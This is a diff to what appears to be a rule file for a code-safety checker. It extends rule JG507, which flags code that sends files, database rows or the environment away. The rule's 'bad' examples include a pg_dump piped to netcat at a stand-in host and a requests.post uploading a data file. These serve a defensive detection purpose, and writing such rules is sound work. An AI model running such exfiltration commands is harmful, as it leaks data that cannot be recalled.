@@ -69,12 +69,15 @@ RULES: Final[tuple[Rule, ...]] = (
     ),
     Rule(
         id="JG507",
-        title="Sends files or the environment away",
+        title="Sends files, rows of a database or the environment away",
         why="What has left cannot be called back.",
         instead="Look at what is sent, and to whom.",
         kinds=_CONNECTS,
-        check=has("from:file", "from:environment"),
-        bad=("import requests\nrequests.post('http://x.test', data=open('/srv/data.csv', 'rb'))",),
+        check=has("from:file", "from:environment", "from:database"),
+        bad=(
+            "!pg_dump shop | nc x.test 9999",
+            "import requests\nrequests.post('http://x.test', data=open('/srv/data.csv', 'rb'))",
+        ),
         good=("import requests\nrequests.get('https://api.test')",),
     ),
     Rule(
